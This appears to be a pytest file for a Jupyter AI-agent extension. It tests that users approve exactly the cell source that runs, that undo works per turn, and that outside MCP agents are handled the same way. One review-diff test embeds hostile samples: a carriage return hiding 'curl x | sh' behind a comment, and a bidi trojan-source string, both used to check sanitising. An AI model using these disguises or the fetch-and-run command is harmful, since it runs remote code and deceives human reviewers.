) -> None:
    """The agent inserts a harmless cell (allowed without asking) and asks to run it. The prompt
    used to show the cell id only, and the code was fetched after the yes: an edit made while
    the prompt waited (by the user, or by anything else that writes the cell) ran unseen. Now
    the prompt shows the source, the kernel runs exactly that, and an edit in between runs
    nothing: the next run_cell asks again, showing the new source."""
    fake_api.add(
        Reply([tool_use("t1", "insert_cell", {"source": "shown_value = 41 + 1\nshown_value"})]),
        lambda body: Reply([tool_use("t2", "run_cell", {"cell_id": inserted_id(body)})]),
        lambda body: Reply([tool_use("t3", "run_cell", {"cell_id": inserted_id(body)})]),
        text("Done."),
    )

    def swap() -> None:  # while the prompt waits, the cell changes
        notebook.cells[2]["source"] = "swapped_in = 'unseen'\nswapped_in"

    seen: list[str] = []
    reply, outputs = kernel.execute(
        "%%agent\nCompute it",
        cell_id="ask",
        on_message=answer_prompts(kernel, seen, [swap, lambda: None]),
    )
    assert reply["status"] == "ok", outputs
    prompts = [value for value in seen if "run_cell" in value or "cell_id" in value]
    assert any("shown_value = 41 + 1" in value for value in seen), prompts
    first = result_text(tool_results(fake_api.requests[2])[-1])
    assert "edited after the user approved" in first, first
    # the second call asked again, showing what the cell holds now, and ran that
    assert any("swapped_in = " in value for value in seen), prompts
    second = tool_results(fake_api.requests[3])[-1]
    assert not second.get("is_error") and "unseen" in result_text(second)
    runs = [op for op in notebook.ops if op["op"] == "run_start"]
    assert [op.get("expect") for op in runs] == [
        "shown_value = 41 + 1\nshown_value",
        "swapped_in = 'unseen'\nswapped_in",
    ]


def test_an_accepted_edit_applies_the_diff_shown_or_nothing(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    """The diff is computed when it is shown, the edit applied when it is accepted: a change to
    the cell in between (the user typing, another edit of the agent) used to combine with it
    into a cell neither diff showed. Now the accepted diff applies to the source it showed, or
    the edit is refused and the cell keeps what it holds."""
    notebook.review_later = True
    fake_api.add(
        Reply(
            [
                tool_use(
                    "t1",
                    "edit_cell",
                    {"cell_id": "data", "old_string": "[3, 1, 2]", "new_string": "[3, 1, 2, 4]"},
                )
            ]
        ),
        text("Done."),
    )

    def change_then_accept() -> None:
        # the diff showed "rows = [3, 1, 2]" → "rows = [3, 1, 2, 4]"; then the cell changes
        notebook.cells[0]["source"] = "import shutil\nrows = [3, 1, 2]"
        notebook.decide(0, True)

    def accept_after_a_change(op: dict[str, Any]) -> None:
        if op["op"] == "review":
            threading.Timer(0.2, change_then_accept).start()

    notebook.on_op = accept_after_a_change
    reply, outputs = kernel.execute("%%agent\nAdd a row", cell_id="ask")
    assert reply["status"] == "ok", outputs
    assert notebook.shown[0][1] == "rows = [3, 1, 2]"
    result = result_text(tool_results(fake_api.requests[1])[-1])
    assert "changed since it was approved" in result, result
    assert notebook.cells[0]["source"] == "import shutil\nrows = [3, 1, 2]"


# -- the page that ran the cell is the one the agent works in (33.8, 35.1, 35.2) -------------


def second_page(kernel: Kernel, path: str, session: str) -> FakeNotebook:
    """Another page on this kernel (its own kernel connection: its own client session) that
    opens the comm after the first — the one that used to take the co-author tools over."""
    cell = {"id": f"{session}-cell", "cell_type": "code", "source": "x = 1"}
    cells = [{**cell, "execution_count": 1}]
    page = FakeNotebook(kernel, cells, session=session)
    page.path = path
    page._ids = 100  # its inserted cells get ids of their own
    kernel.others.append(page)
    page.open()
    reply, outputs = kernel.execute("pass", cell_id=f"{session}-cell", page=page)
    assert reply["status"] == "ok", outputs
    return page


@pytest.mark.parametrize("path", ["analysis.ipynb", "other.ipynb"], ids=["same", "other"])
def test_the_page_that_ran_the_cell_is_the_one_the_agent_works_in(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic, path: str
) -> None:
    """Two pages on one kernel — a second view of the same notebook, or another notebook on
    its kernel — the second connected last. The turn run in the first page inserts, reviews
    and edits there; the one run in the second works in the second; ``%agent undo`` in each
    takes back its own turn; ``%agent config`` names each page's own notebook."""
    other = second_page(kernel, path, "page-b")
    notebook.decisions = [True]
    fake_api.add(
        Reply([tool_use("t1", "insert_cell", {"source": "print('from A')"})]),
        Reply(
            [tool_use("t2", "edit_cell", {"cell_id": "data", "old_string": "3", "new_string": "4"})]
        ),
        text("A done."),
        Reply([tool_use("t3", "insert_cell", {"source": "print('from B')"})]),
        text("B done."),
    )
    reply, outputs = kernel.execute("%%agent\nWork here", cell_id="ask")
    assert reply["status"] == "ok", outputs
    assert [op["op"] for op in other.ops] == []  # nothing reached the page that did not ask
    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1"]
    assert notebook.cells[0]["source"] == "rows = [4, 1, 2]"
    # the cell's own page: its recorded turn asked for first (issue 38), then the agent's work
    assert [op["op"] for op in notebook.ops] == [
        "turn_record",
        "insert",
        "snapshot",
        "review",
        "edit",
    ]

    reply, outputs = kernel.execute("%%agent\nWork in B", cell_id="page-b-cell", page=other)
    assert reply["status"] == "ok", outputs
    assert [c["id"] for c in other.cells] == ["page-b-cell", "agent-101"]
    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1"]

    reply, outputs = kernel.execute("%agent config", page=other)
    assert re.search(rf"notebook co-authoring +on \({path}", printed(outputs)), printed(outputs)
    reply, outputs = kernel.execute("%agent undo")  # in the first page: its own turn
    assert reply["status"] == "ok", outputs
    assert [c["id"] for c in notebook.cells] == ["data", "ask"]
    assert notebook.cells[0]["source"] == "rows = [3, 1, 2]"
    assert [c["id"] for c in other.cells] == ["page-b-cell", "agent-101"]


def test_when_the_turns_page_goes_away_the_cell_tools_fail_at_once(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    """The page that ran the cell is closed while its edit is shown as a diff: the review used to
    wait for ever, and the next cell tool waited 15 s for an answer from a page that was gone
    (or went to another page). Now both fail at once saying so; another page is not used; the
    page, opened again, connects and the next turn works there (no ``%load_ext``)."""
    other = second_page(kernel, "other.ipynb", "page-b")
    notebook.review_later = True
    fake_api.add(
        Reply(
            [tool_use("t1", "edit_cell", {"cell_id": "data", "old_string": "3", "new_string": "4"})]
        ),
        Reply([tool_use("t2", "insert_cell", {"source": "print('late')"})]),
        text("Gone."),
        Reply([tool_use("t3", "insert_cell", {"source": "print('back')"})]),
        text("Back."),
    )
    notebook.on_op = lambda op: op["op"] == "review" and notebook.close()
    reply, outputs = kernel.execute("%%agent\nEdit", cell_id="ask", timeout=40)
    assert reply["status"] == "ok", outputs
    review = result_text(tool_results(fake_api.requests[1])[-1])
    insert = result_text(tool_results(fake_api.requests[2])[-1])
    # at once: the close answered the review in flight, not the 15 s exchange timeout
    assert "went away" in review and "did not answer" not in review, review
    assert "went away" in insert, insert
    assert other.ops == []

    notebook.on_op = None
    notebook.review_later = False
    notebook.comm_id = uuid.uuid4().hex  # the page, reloaded, opens a new comm
    notebook.open()
    reply, outputs = kernel.execute("%%agent\nAgain", cell_id="ask")
    assert reply["status"] == "ok", outputs
    assert notebook.cells[-1]["source"] == "print('back')"
    assert other.ops == []


# -- undo per turn and per notebook (34.2) ------------------------------------------------------


def test_one_agent_cell_is_one_undo_entry_whatever_it_ran(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic, tmp_path: Path
) -> None:
    """Tutorial 07's turn: three cells inserted and run, and a file written. Each run_cell
    raised the kernel's count, which named the undo entry, so the turn was four entries: one
    ``%agent undo`` left three cells, each further one removed one under a made-up label. Now
    one undo takes the whole turn back, named as the %%agent cell shows itself."""
    sources = ["a = 1", "b = a + 1", "print(b)"]

    def run(index: int, call: str) -> Any:
        def reply(body: dict[str, Any]) -> Any:
            ids = re.findall(r"Inserted code cell (\S+) \(at", json.dumps(body["messages"]))
            return Reply([tool_use(call, "run_cell", {"cell_id": ids[index]})])

        return reply

    for n, source in enumerate(sources):  # as tutorial 07 does: insert one, run it, ...
        fake_api.add(Reply([tool_use(f"i{n}", "insert_cell", {"source": source})]), run(n, f"r{n}"))
    fake_api.add(
        Reply([tool_use("w", "write_file", {"file_path": "notes.txt", "content": "b is 2"})]),
        text("Done."),
    )
    kernel.execute("%agent_tools policy run_cell allow")
    reply, outputs = kernel.execute("%%agent\nBuild it", cell_id="ask")
    assert reply["status"] == "ok", outputs
    own = reply["execution_count"]
    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1", "agent-2", "agent-3"]
    assert all(isinstance(c["execution_count"], int) for c in notebook.cells[2:])
    assert (tmp_path / "notes.txt").exists()

    reply, outputs = kernel.execute("%agent undo")
    said = printed(outputs)
    assert reply["status"] == "ok", outputs
    assert [c["id"] for c in notebook.cells] == ["data", "ask"], said
    assert not (tmp_path / "notes.txt").exists(), said
    assert f"Undid the cells of cell {own}." in said, said
    assert f"Undid the file changes of 'cell {own}'" in said, said
    reply, outputs = kernel.execute("%agent undo")
    assert "Nothing to undo" in printed(outputs) or "No cell changes" in printed(outputs)


def test_undo_in_a_notebook_takes_back_that_notebooks_turn_only(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic, tmp_path: Path
) -> None:
    """Two notebooks in one folder (here on one kernel): the undo journal belongs to the folder,
    and ``%agent undo`` in the first notebook restored the file the other notebook's newer turn
    wrote. Now each notebook's undo takes back its own last turn."""
    other = second_page(kernel, "other.ipynb", "page-b")
    fake_api.add(
        Reply([tool_use("a", "write_file", {"file_path": "a.txt", "content": "from A"})]),
        text("A."),
        Reply([tool_use("b", "write_file", {"file_path": "b.txt", "content": "from B"})]),
        text("B."),
    )
    reply, outputs = kernel.execute("%%agent\nWrite a", cell_id="ask")
    assert reply["status"] == "ok", outputs
    time.sleep(1.1)  # the file journal dates its entries to the second
    reply, outputs = kernel.execute("%%agent\nWrite b", cell_id="page-b-cell", page=other)
    assert reply["status"] == "ok", outputs
    reply, outputs = kernel.execute("%agent undo")  # in the first notebook
    said = printed(outputs)
    assert not (tmp_path / "a.txt").exists(), said
    assert (tmp_path / "b.txt").read_text() == "from B", said
    reply, outputs = kernel.execute("%agent undo", page=other)
    assert not (tmp_path / "b.txt").exists(), printed(outputs)


def test_the_review_diff_shows_what_will_run(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    """A lone CR in ``new_string`` — Python reads it as a line break, a diff drew it as nothing —
    showed ``threshold = 0.5  # tuned`` while ``import os; os.system(...)`` was what would run;
    a bidi override made code read as a comment; a long line ran off the edge. The diff's lines
    now come from the kernel, through the one sanitising function: escapes shown, lines wrapped."""
    hidden = "threshold = 0.5  # tuned\rimport os; os.system('curl x | sh')"
    trojan = "ok = True  # \u202e } \u2066if admin:\u2069 \u2066 # only"
    long = "values = [" + ", ".join(str(n) for n in range(120)) + "]"
    notebook.decisions = [False]
    edit = {"cell_id": "data", "old_string": "rows = [3, 1, 2]"}
    fake_api.add(
        Reply([tool_use("t1", "edit_cell", {**edit, "new_string": f"{hidden}\n{trojan}\n{long}"})]),
        text("Rejected."),
    )
    reply, outputs = kernel.execute("%%agent\nTune it", cell_id="ask")
    assert reply["status"] == "ok", outputs
    [(review, _before)] = notebook.shown
    added = [text for kind, text in review["lines"] if kind == "add"]
    joined = "\n".join(added)
    assert "threshold = 0.5  # tuned\\rimport os; os.system" in joined, added
    assert "\\u202e" in joined and "\\u2066" in joined and "\u202e" not in joined, added
    assert "\r" not in joined
    assert all(len(text) <= 102 for kind, text in review["lines"]), review["lines"]
    assert any(text.startswith("↪ ") for text in added)  # the long line, wrapped, not cut
    assert "119]" in joined


def test_a_page_that_comes_back_keeps_the_users_policies(
    kernel: Kernel, notebook: FakeNotebook
) -> None:
    """A reload closes the page's comm (the tools leave) and opens a new one (they come back):
    the policy the user set for run_cell stays, it does not fall back to asking."""
    reply, outputs = kernel.execute("%agent_tools policy run_cell allow")
    assert reply["status"] == "ok", outputs
    reply, outputs = kernel.execute("%%agent\nhello", cell_id="ask")  # the tools are in place
    notebook.close()
    notebook.comm_id = uuid.uuid4().hex
    notebook.open()
    reply, outputs = kernel.execute("%agent_tools list")
    [line] = [row for row in printed(outputs).splitlines() if row.split()[:1] == ["run_cell"]]
    assert "allow" in line, line


# -- an outside agent's run_cell through %agent serve (issue 33.7 for served calls) ------------

SERVED_URL = re.compile(r"claude mcp add --transport http \S+ (http://\S+) --header")
SERVED_TOKEN = re.compile(r"\$\(cat (~/)?'([^']+)'\)")


def serve_from(kernel: Kernel, page: FakeNotebook | None = None) -> tuple[str, str]:
    """Run ``%agent serve`` in ``page``: the URL and the token outside clients connect with."""
    pytest.importorskip("mcp")
    pytest.importorskip("uvicorn")
    reply, outputs = kernel.execute("%agent serve", cell_id="serve-cell", page=page)
    assert reply["status"] == "ok", outputs
    url, kept = SERVED_URL.search(printed(outputs)), SERVED_TOKEN.search(printed(outputs))
    assert url is not None and kept is not None, printed(outputs)
    token_file = Path((str(Path.home()) + "/" if kept.group(1) else "") + kept.group(2))
    return url.group(1), token_file.read_text().strip()


def call_from_outside(
    kernel: Kernel,
    url: str,
    token: str,
    name: str,
    arguments: dict[str, Any],
    on_message: Callable[[dict[str, Any]], None],
    progress_callback: Any = None,
) -> Any:
    """One ``tools/call`` by an outside MCP client while the kernel is idle; the test plays the
    pages meanwhile (each iopub message to every page and to ``on_message``); the client's
    progress notifications go to ``progress_callback``."""
    from mcp import ClientSession
    from mcp.client.streamable_http import streamable_http_client
    from mcp.shared._httpx_utils import create_mcp_http_client

    async def go() -> Any:
        client = create_mcp_http_client(headers={"Authorization": f"Bearer {token}"})
        async with (
            client,
            streamable_http_client(url, http_client=client) as streams,
            ClientSession(streams[0], streams[1]) as session,
        ):
            await session.initialize()
            return await session.call_tool(name, arguments, progress_callback=progress_callback)

    done: dict[str, Any] = {}

    def run() -> None:
        try:
            done["result"] = asyncio.run(go())
        except BaseException as exc:
            done["error"] = exc

    caller = threading.Thread(target=run, daemon=True)
    caller.start()
    deadline = time.monotonic() + 60
    while caller.is_alive():
        assert time.monotonic() < deadline, "the outside call never ended"
        try:
            message = kernel.client.get_iopub_msg(timeout=0.1)
        except Exception:
            continue
        for page in [kernel.notebook, *kernel.others]:
            if page is not None:
                page.handle(message)
        on_message(message)
    assert "error" not in done, done.get("error")
    return done["result"]


def test_a_served_run_cell_asks_with_the_source_and_runs_only_that(
    kernel: Kernel, notebook: FakeNotebook
) -> None:
    """An outside agent calls run_cell through %agent serve. Its prompt used to show the cell
    id only, and with no pin the cell's source as the page held it after the yes ran: an edit
    made while the prompt waited ran unseen. Now the served call is asked as the notebook's own
    agent's is — the prompt shows the source, the kernel runs exactly that, an edit in between
    runs nothing."""
    url, token = serve_from(kernel)

    def swap() -> None:  # while the prompt waits, the cell changes
        notebook.cells[0]["source"] = "rows = 'swapped'\nprint('unseen code ran')"

    seen: list[str] = []
    result = call_from_outside(
        kernel, url, token, "run_cell", {"cell_id": "data"}, answer_prompts(kernel, seen, [swap])
    )
    assert any("rows = [3, 1, 2]" in value for value in seen), seen
    said = "\n".join(block.text for block in result.content if block.type == "text")
    assert result.is_error and "edited after the user approved" in said, said
    assert "unseen code ran" not in said
    runs = [op for op in notebook.ops if op["op"] == "run_start"]
    assert [op.get("expect") for op in runs] == ["rows = [3, 1, 2]"], runs
    reply, outputs = kernel.execute("print(repr(rows))", cell_id="check")
    assert reply["status"] == "ok", outputs
    assert printed(outputs).strip() == "[3, 1, 2]", outputs


def test_a_served_call_works_in_the_page_that_ran_serve_else_the_most_recent(
    kernel: Kernel, notebook: FakeNotebook
) -> None:
    """A served call has no turn. Its operations used to go to the page of whatever message the
    kernel handled last — here a second page that ran a cell after ``%agent serve``, which has
    no cell ``data``. Now they go to the page that ran ``%agent serve``; when that page has
    left, to the most recently active page."""
    url, token = serve_from(kernel)
    other = second_page(kernel, "other.ipynb", "page-b")
    result = call_from_outside(kernel, url, token, "notebook_cells", {}, lambda _m: None)
    said = "\n".join(block.text for block in result.content if block.type == "text")
    assert "rows = [3, 1, 2]" in said and "page-b-cell" not in said, said
    seen: list[str] = []
    result = call_from_outside(
        kernel, url, token, "run_cell", {"cell_id": "data"}, answer_prompts(kernel, seen)
    )
    said = "\n".join(block.text for block in result.content if block.type == "text")
    assert not result.is_error, said
    assert [op["op"] for op in notebook.ops][-3:] == ["snapshot", "run_start", "run_end"]
    assert other.ops == []
    notebook.close()
    result = call_from_outside(kernel, url, token, "notebook_cells", {}, lambda _m: None)
    said = "\n".join(block.text for block in result.content if block.type == "text")
    assert not result.is_error and "page-b-cell" in said, said


def test_a_served_edit_cell_is_shown_as_a_diff_and_applies_only_to_it(
    kernel: Kernel, notebook: FakeNotebook
) -> None:
    """An outside agent's edit_cell used to be asked as "edit_cell" with its arguments in the
    serve cell, not as a diff, and applied to whatever the cell held at accept time. Now it is
    shown as a diff in the cell, and the accepted edit carries the source the diff showed."""
    url, token = serve_from(kernel)
    notebook.decisions = [True]
    arguments = {"cell_id": "data", "old_string": "[3, 1, 2]", "new_string": "[3, 1, 2, 4]"}
    seen: list[str] = []
    result = call_from_outside(
        kernel, url, token, "edit_cell", arguments, answer_prompts(kernel, seen)
    )
    said = "\n".join(block.text for block in result.content if block.type == "text")
    assert not result.is_error, said
    ops = {op["op"]: op for op in notebook.ops}
    assert "review" in ops, notebook.ops
    assert ops["edit"].get("expect") == "rows = [3, 1, 2]", ops["edit"]
    assert notebook.cells[0]["source"] == "rows = [3, 1, 2, 4]"


# -- long cells (issue 37): progress, a per-call timeout, one run_cell at a time ----------------


def _comm_text(message: dict[str, Any]) -> str:
    if message["msg_type"] != "comm_msg":
        return ""
    return json.dumps(message["content"].get("data", {}))


def test_a_long_run_cell_shows_its_progress_in_the_tool_view_while_it_runs(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic, tmp_path: Path
) -> None:
    """The cell prints once, then waits in silence until the test sees, in the turn's tool
    view, how long it has run and its last output line: only then is it let go."""
    slow = (
        "import os, time\nprint('loaded 3 of 10', flush=True)\n"
        "while not os.path.exists('go'):\n    time.sleep(0.05)\nprint('all loaded')"
    )
    fake_api.add(
        Reply([tool_use("t1", "insert_cell", {"source": slow})]),
        lambda body: Reply([tool_use("t2", "run_cell", {"cell_id": inserted_id(body)})]),
        text("Done."),
    )
    kernel.execute("%agent_tools policy run_cell allow")
    kernel.execute("%config AgentMagics.tool_timeout = 20")
    seen: list[str] = []

    def watch(message: dict[str, Any]) -> None:
        shown = _comm_text(message)
        if "elapsed" in shown and "loaded 3 of 10" in shown and not seen:
            seen.append(shown)
            (tmp_path / "go").write_text("")  # the view showed it: the cell may end

    reply, outputs = kernel.execute("%%agent\nLoad slowly", cell_id="ask", on_message=watch)
    assert reply["status"] == "ok", outputs
    assert seen, "the tool view never showed the running cell's progress"
    result = result_text(tool_results(fake_api.requests[2])[-1])
    assert "all loaded" in result and "TimeoutError" not in result, result


def test_run_cell_takes_a_timeout_bounded_by_the_users_tool_timeout(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    sleepy = "import time\ntime.sleep(3600)"
    fake_api.add(
        Reply([tool_use("t1", "insert_cell", {"source": sleepy})]),
        lambda body: Reply(
            [tool_use("t2", "run_cell", {"cell_id": inserted_id(body), "timeout": 2})]
        ),
        lambda body: Reply(
            [tool_use("t3", "run_cell", {"cell_id": inserted_id(body), "timeout": 100_000})]
        ),
        Reply([tool_use("t4", "run_cell", {"cell_id": "data", "timeout": -1})]),
        text("Too slow."),
    )
    kernel.execute("%agent_tools policy run_cell allow")
    kernel.execute("%config AgentMagics.tool_timeout = 4")
    reply, outputs = kernel.execute("%%agent\nSleep", cell_id="ask", timeout=60)
    assert reply["status"] == "ok", outputs
    shorter = result_text(tool_results(fake_api.requests[2])[-1])
    assert "TimeoutError" in shorter and "(2 s)" in shorter, shorter
    capped = result_text(tool_results(fake_api.requests[3])[-1])
    assert "TimeoutError" in capped and "(4 s)" in capped, capped
    assert "at most the user's tool_timeout" in capped, capped
    refused = tool_results(fake_api.requests[4])[-1]
    assert refused.get("is_error") and "timeout" in result_text(refused), refused


def test_a_second_run_cell_while_one_runs_is_refused_and_says_why(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic, tmp_path: Path
) -> None:
    """Two run_cell calls in one reply: the main shell runs one cell at a time, so the second
    is refused at once (not queued behind the first) with a result naming the running cell."""
    waiting = "import os, time\nwhile not os.path.exists('go'):\n    time.sleep(0.05)\nprint('a')"
    fake_api.add(
        Reply(
            [
                tool_use("t1", "insert_cell", {"source": waiting}),
                tool_use("t2", "insert_cell", {"source": "print('b')"}),
            ]
        ),
        lambda body: (
            Reply(
                [
                    tool_use("t3", "run_cell", {"cell_id": ids[0]}),
                    tool_use("t4", "run_cell", {"cell_id": ids[1]}),
                ]
            )
            if (ids := re.findall(r"Inserted code cell (\S+) \(at", json.dumps(body["messages"])))
            else text("no ids")
        ),
        text("One at a time."),
    )
    kernel.execute("%agent_tools policy run_cell allow")
    kernel.execute("%config AgentMagics.tool_timeout = 20")

    def answered(message: dict[str, Any]) -> None:
        # the running cell ends once its view shows it running: the other call, started with
        # it, was answered long before (queued behind it, it would run after it and succeed)
        if "elapsed" in _comm_text(message) and not (tmp_path / "go").exists():
            (tmp_path / "go").write_text("")

    reply, outputs = kernel.execute("%%agent\nRun both", cell_id="ask", on_message=answered)
    assert reply["status"] == "ok", outputs
    results = {block["tool_use_id"]: block for block in tool_results(fake_api.requests[2])}
    ran = [call for call in ("t3", "t4") if not results[call].get("is_error")]
    assert len(ran) == 1, results  # one ran, the other was refused
    refused = result_text(results["t4" if ran == ["t3"] else "t3"])
    running_id = notebook.cells[2 if ran == ["t3"] else 3]["id"]
    assert "still running" in refused and running_id in refused, refused
    assert [cell["execution_count"] is None for cell in notebook.cells[2:4]].count(True) == 1


# -- a served run_cell's progress (issue 37: tasks "with progress") -----------------------------

SLOW_CELL = (
    "import os, time\nprint('loaded 3 of 10', flush=True)\n"
    "while not os.path.exists('go'):\n    time.sleep(0.05)\nprint('all loaded')"
)


def _play_pages(kernel: Kernel, seconds: float) -> None:
    """Hand the kernel's iopub messages to the open pages for ``seconds`` (the page answers
    ``run_start`` and takes the outputs, as the extension does)."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            message = kernel.client.get_iopub_msg(timeout=0.05)
        except Exception:
            continue
        for page in [kernel.notebook, *kernel.others]:
            if page is not None:
                page.handle(message)


def test_a_served_run_cell_task_tells_the_cells_progress_while_it_runs(
    kernel: Kernel, notebook: FakeNotebook, tmp_path: Path
) -> None:
    """An outside agent's run_cell, a task for the SDK's task-aware client (a process of its
    own): while the cell runs, ``tasks/get``'s statusMessage says how long it has run and its
    last output line so far — the progress the notebook's own turn shows — and the cell is let
    go only once a poll has shown it."""
    from mcp_tasks import TasksClient

    url, token = serve_from(kernel)
    kernel.execute("%agent_tools policy run_cell allow")
    kernel.execute("%config AgentMagics.tool_timeout = 30")
    notebook.cells.append({"id": "slow", "cell_type": "code", "source": SLOW_CELL})
    client = TasksClient(url, token)
    try:
        handle = client.ask(call="run_cell", arguments={"cell_id": "slow"})
        assert handle["shape"] == "task", handle
        said: list[str] = []
        polled = client.ask(get=handle["taskId"])
        deadline = time.monotonic() + 60
        while polled["status"] == "working":
            assert time.monotonic() < deadline, (polled, said)
            message = polled.get("statusMessage", "")
            said.append(message)
            if "elapsed" in message and "loaded 3 of 10" in message:
                (tmp_path / "go").write_text("")  # a poll showed it: the cell may end
            _play_pages(kernel, 0.2)
            polled = client.ask(get=handle["taskId"])
    finally:
        (tmp_path / "go").write_text("")
        client.close()
    assert any("elapsed" in m and "last output: loaded 3 of 10" in m for m in said), said
    assert polled["status"] == "completed", polled
    assert "all loaded" in polled["result"]["content"][0]["text"], polled


def test_a_served_run_cell_tells_a_client_without_tasks_its_progress(
    kernel: Kernel, notebook: FakeNotebook, tmp_path: Path
) -> None:
    """A client that does not speak tasks gets the same progress as MCP progress
    notifications (it gave a progress token); the cell is let go once one has shown it."""
    url, token = serve_from(kernel)
    kernel.execute("%agent_tools policy run_cell allow")
    kernel.execute("%config AgentMagics.tool_timeout = 30")
    notebook.cells.append({"id": "slow", "cell_type": "code", "source": SLOW_CELL})
    said: list[str] = []

    async def on_progress(progress: float, total: float | None, message: str | None) -> None:
        said.append(message or "")
        if message and "elapsed" in message and "loaded 3 of 10" in message:
            (tmp_path / "go").write_text("")

    try:
        result = call_from_outside(
            kernel, url, token, "run_cell", {"cell_id": "slow"}, lambda _m: None, on_progress
        )
    finally:
        (tmp_path / "go").write_text("")
    assert any("elapsed" in m and "last output: loaded 3 of 10" in m for m in said), said
    text_out = "\n".join(block.text for block in result.content if block.type == "text")
    assert not result.is_error and "all loaded" in text_out, text_out
